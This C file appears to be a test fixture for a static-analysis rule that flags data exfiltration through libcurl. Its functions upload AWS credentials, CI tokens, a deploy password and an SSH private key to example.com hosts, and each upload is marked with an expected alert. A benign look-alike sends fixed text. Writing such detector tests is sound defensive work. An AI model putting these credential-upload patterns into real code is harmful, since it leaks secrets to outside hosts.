/*
 * taint.exfiltration with libcurl uploads: a crash report posted with
 * CURLOPT_POSTFIELDS, a credentials file streamed with CURLOPT_READDATA, a
 * token and a password put into a MIME form (curl_mime_data, CURLOPT_MIMEPOST),
 * an SSH key attached with curl_mime_filedata and a user name escaped with
 * the legacy curl_escape. The look-alike sends fixed text through the same
 * options. It includes libcurl's headers; Sluice's bundled declarations
 * serve them when libcurl is not installed.
 */
#include <stdio.h>
#include <stdlib.h>

#include <curl/curl.h>

int post_crash_report(CURL *c, FILE *core_summary)
{
    char report[2048];
    size_t n = fread(report, 1, sizeof(report) - 1, core_summary);
    report[n] = '\0';
    curl_easy_setopt(c, CURLOPT_URL, "https://crash.example.com/submit");
    curl_easy_setopt(c, CURLOPT_POSTFIELDS, report); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int upload_credentials(CURL *c)
{
    FILE *f = fopen("/root/.aws/credentials", "rb");
    if (!f)
        return -1;
    curl_easy_setopt(c, CURLOPT_READDATA, f); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int post_token_form(CURL *c)
{
    curl_mime *form = curl_mime_init(c);
    curl_mimepart *part = curl_mime_addpart(form);
    const char *tok = getenv("CI_JOB_TOKEN");
    curl_mime_name(part, "token");
    curl_mime_data(part, tok ? tok : "", CURL_ZERO_TERMINATED);
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int post_deploy_password(CURL *c)
{
    const char *pw = getenv("DEPLOY_PASSWORD");
    curl_mime *form = curl_mime_init(c);
    curl_mime_data(curl_mime_addpart(form), pw ? pw : "", CURL_ZERO_TERMINATED);
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int upload_ssh_key(CURL *c)
{
    char path[512];
    const char *home = getenv("HOME");
    snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", home ? home : "");
    curl_mime *form = curl_mime_init(c);
    curl_mimepart *part = curl_mime_addpart(form);
    curl_mime_name(part, "key");
    curl_mime_filedata(part, path);
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int whois_user(CURL *c)
{
    char url[512];
    const char *user = getenv("USER");
    char *q = curl_escape(user ? user : "", 0);
    snprintf(url, sizeof(url), "https://directory.example.com/whois?u=%s", q);
    curl_easy_setopt(c, CURLOPT_URL, url); // $ Alert[taint.exfiltration]
    return curl_easy_perform(c);
}

int post_fixed(CURL *c)
{
    curl_mime *form = curl_mime_init(c);
    curl_mimepart *part = curl_mime_addpart(form);
    char *q = curl_escape("weekly digest", 0);
    char url[256];
    snprintf(url, sizeof(url), "https://news.example.com/subscribe?list=%s", q);
    curl_mime_name(part, "plan");
    curl_mime_data(part, "free", CURL_ZERO_TERMINATED);
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form);
    curl_easy_setopt(c, CURLOPT_POSTFIELDS, "{\"event\":\"startup\"}");
    return curl_easy_perform(c);
}
